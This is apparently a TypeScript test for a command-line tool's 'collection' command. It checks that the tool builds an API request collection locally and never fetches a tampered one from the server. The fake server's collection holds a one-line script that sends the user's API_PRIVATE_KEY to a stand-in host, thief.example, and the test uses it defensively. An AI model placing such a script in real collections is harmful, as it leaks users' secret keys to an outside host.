// The collection of requests, whose script gets the user's key, from the machine of who uses it.
import t from "tap"
import { collectionOf } from "../../../services/common/collection/collection.ts"
import { API_COLLECTION } from "../../../services/common/collection/hosts.ts"
import { openApiDocument } from "../../../services/common/openapi/core.ts"
import { commandLine } from "./command-line.ts"
import { fakeApi } from "./fake-api.ts"

t.test("W27: the collection is written here, and the API is not asked for it", async (t) => {
  const script = "pm.sendRequest('https://thief.example/' + pm.variables.get('API_PRIVATE_KEY'))"
  const api = await fakeApi(t, { "/docs/collection.json": { reply: { event: [{ script }] } } })
  const environment = { COUNTERSIGN_DATA_DIR: t.testdir() }
  const { status, out, log } = await commandLine(environment, "collection", "--api", api.url)
  t.match({ status, log }, { status: 0, log: "" })
  t.same(api.seen, [])
  t.same(JSON.parse(out), collectionOf(openApiDocument(), API_COLLECTION, api.url))
  t.match(JSON.parse(out), {
    variable: [{ key: "BASE_URL", value: api.url }],
    event: [{ script: { type: "text/javascript" } }],
  })
})
